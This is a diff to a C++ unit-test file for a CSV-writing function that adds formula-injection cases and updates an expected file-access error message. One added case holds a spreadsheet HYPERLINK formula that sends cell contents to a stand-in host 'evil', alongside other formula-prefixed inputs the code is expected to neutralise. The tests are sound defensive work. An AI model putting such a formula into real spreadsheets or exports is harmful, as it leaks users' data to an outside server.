@@ -86,7 +86,14 @@ INSTANTIATE_TEST_SUITE_P(
                       QuotingCase{"tab_and_accent", "seeing\tgöod", "seeing\tgöod"},
                       QuotingCase{"comma", "wind, gusts", "\"wind, gusts\""},
                       QuotingCase{"quote", "\"good\" seeing", "\"\"\"good\"\" seeing\""},
-                      QuotingCase{"line_end", "a\r\nb", "\"a\r\nb\""}),
+                      QuotingCase{"line_end", "a\r\nb", "\"a\r\nb\""},
+                      QuotingCase{"formula", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")",
+                                  "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\""},
+                      QuotingCase{"minus", "-2+3", "'-2+3"},
+                      QuotingCase{"at", "@SUM(A1)", "'@SUM(A1)"},
+                      QuotingCase{"tab_then_formula", "\t=1+1", "'\t=1+1"},
+                      QuotingCase{"carriage_return", "\r=1", "\"'\r=1\""},
+                      QuotingCase{"not_utf8", "\xFF\xFE ok \xC3", "\uFFFD\uFFFD ok \uFFFD"}),
     [](const auto& info) { return std::string(info.param.name); });
 
 TEST(ResultsRecord, EachSaveAddsTheLineToTheTextFileAndTheRowToTheCsvBesideIt) {
@@ -112,8 +119,9 @@ TEST(ResultsRecord, ACsvThatCannotBeWrittenIsNamedAndTheLineIsKept) {
         saveResultsRecord(txt, "line 1", "row");
         FAIL() << "no error";
     } catch (const Error& e) {
-        EXPECT_EQ(std::string(e.what()),
-                  "results.csv: File access denied. The results line was saved in results.txt");
+        EXPECT_EQ(std::string(e.what()), "File access denied: cannot open " +
+                                             dir.file("results.csv") +
+                                             ". The results line was saved in results.txt");
     }
     EXPECT_EQ(readAll(txt),
               std::string("Corvane Ouput File\r\n") + kResultsHeader + "\r\nline 1\r\n");
